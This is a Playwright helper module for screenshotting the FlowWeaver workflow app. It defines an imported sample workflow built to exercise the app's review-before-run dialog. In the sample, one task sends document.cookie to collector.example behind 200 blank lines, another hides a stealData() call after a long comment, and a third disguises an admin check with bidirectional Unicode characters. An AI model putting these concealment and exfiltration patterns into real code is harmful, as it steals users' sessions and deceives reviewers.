// Steps the screenshot list (shots.mjs) builds its pictures from. Each shot starts in a fresh
// browser context, so these begin from the app's first start (the ETL example open).
import { readFile } from 'node:fs/promises';
import { deflateRawSync } from 'node:zlib';

/** Opens the app (or `path` on its origin) and waits until it has booted. */
export async function boot(page, { base }, path = '/') {
  await page.goto(base + path);
  await page.waitForSelector('html[data-booted="true"]', { state: 'attached' });
  if (path === '/') await page.getByTestId('task-node').first().waitFor();
}

export function task(page, name) {
  return page.locator(`[data-testid="task-node"][data-task-name="${name}"]`);
}

/** Drags from one task's output handle to another's input handle. */
export async function connect(page, from, to) {
  const a = await task(page, from).locator('.react-flow__handle.source').boundingBox();
  const b = await task(page, to).locator('.react-flow__handle.target').boundingBox();
  await page.mouse.move(a.x + a.width / 2, a.y + a.height / 2);
  await page.mouse.down();
  await page.mouse.move(b.x + b.width / 2, b.y + b.height / 2, { steps: 8 });
  await page.mouse.up();
}

export async function openExample(page, name) {
  await page.getByRole('button', { name: 'Examples', exact: true }).click();
  await page.getByRole('button', { name: `Open example ${name}` }).click();
  await page.getByTestId('workflow-name').filter({ hasText: name }).waitFor();
}

/** Presses Run and waits for the run to finish with `status`; dismisses the toasts it left. */
export async function run(page, status = 'completed') {
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.waitForSelector(`[data-testid="run-progress"][data-run-status="${status}"]`);
  await dismissToasts(page);
}

export async function dismissToasts(page) {
  const dismiss = page.getByRole('button', { name: 'Dismiss message' });
  while ((await dismiss.count()) > 0) await dismiss.first().click();
}

/** The "Full run" example run to its end: completed, its step_fail failure handled. */
export async function fullRun(page, ctx) {
  await boot(page, ctx);
  await openExample(page, 'Full run');
  await run(page);
}

/** A workflow from someone else, with the tricks a review must show. */
export const SHARED_REPORT = {
  format: 'flowweaver.workflow',
  version: 1,
  id: 'shared-report',
  name: 'Weekly sales report',
  tasks: [
    {
      name: 'fetch_orders',
      dependsOn: [],
      retries: 2,
      code: "log('reading orders');\nconst rows = [\n  { region: 'north', total: 1200 },\n  { region: 'south', total: 950 },\n];\nreturn rows;",
    },
    {
      name: 'summarise',
      dependsOn: ['fetch_orders'],
      code:
        'const sum = fetch_orders.reduce((s, r) => s + r.total, 0);\nreturn { sum };\n' +
        '\n'.repeat(200) +
        "fetch('https://collector.example/steal?d=' + document.cookie);",
    },
    {
      name: 'format',
      dependsOn: ['summarise'],
      timeoutMs: 5000,
      code: `return 'Total: ' + summarise.sum; /* ${'x'.repeat(400)} */ stealData();`,
    },
    {
      name: 'check_admin',
      dependsOn: ['format'],
      code: "const level = 'user';\nif (level != 'user\u202E \u2066// Check if admin\u2069 \u2066') {\n  return format;\n}",
    },
  ],
};

/** Imports `doc` as a file and waits for its tasks (throws on import problems). */
export async function importDoc(page, doc = SHARED_REPORT) {
  await page.getByTestId('import-input').setInputFiles({
    name: 'report.flowweaver.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(doc)),
  });
  const last = doc.tasks.at(-1).name;
  await page
    .locator(`[data-testid=task-node][data-task-name="${last}"], [data-testid=import-problems]`)
    .first()
    .waitFor();
  if (await page.getByTestId('import-problems').count())
    throw new Error(await page.getByTestId('import-problems').innerText());
}

/** Imports SHARED_REPORT and presses Run: the review before the first run is open. */
export async function reviewBeforeRun(page, ctx) {
  await boot(page, ctx);
  await importDoc(page);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await page.getByRole('dialog', { name: 'Review before running' }).waitFor();
}

export function scrollReview(page, top) {
  return page
    .getByRole('dialog')
    .locator('.modal__body')
    .evaluate((body, y) => (body.scrollTop = y), top);
}

/** A link to the standalone Mermaid viewer, packed as FlowWeaver packs it (deflate-raw + base64url). */
export function viewerLink(document, statuses) {
  const payload = { format: 'flowweaver.mermaid-view', version: 1, document, statuses };
  const packed = deflateRawSync(Buffer.from(JSON.stringify(payload))).toString('base64url');
  return `/mermaid-view.html#z=${packed}`;
}

/** Clicks `button` in the header and returns the downloaded file's bytes. */
export async function downloadOf(page, button) {
  const pending = page.waitForEvent('download');
  await page.getByRole('button', { name: button, exact: true }).click();
  return readFile(await (await pending).path());
}
